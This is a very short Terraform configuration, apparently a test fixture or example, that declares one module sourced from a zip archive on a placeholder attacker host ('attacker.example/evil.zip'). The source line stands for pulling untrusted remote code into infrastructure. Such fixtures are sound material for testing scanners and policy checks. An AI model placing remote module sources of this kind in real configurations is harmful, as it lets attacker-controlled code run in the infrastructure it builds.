module "m" {
  source = "https://attacker.example/evil.zip"
}
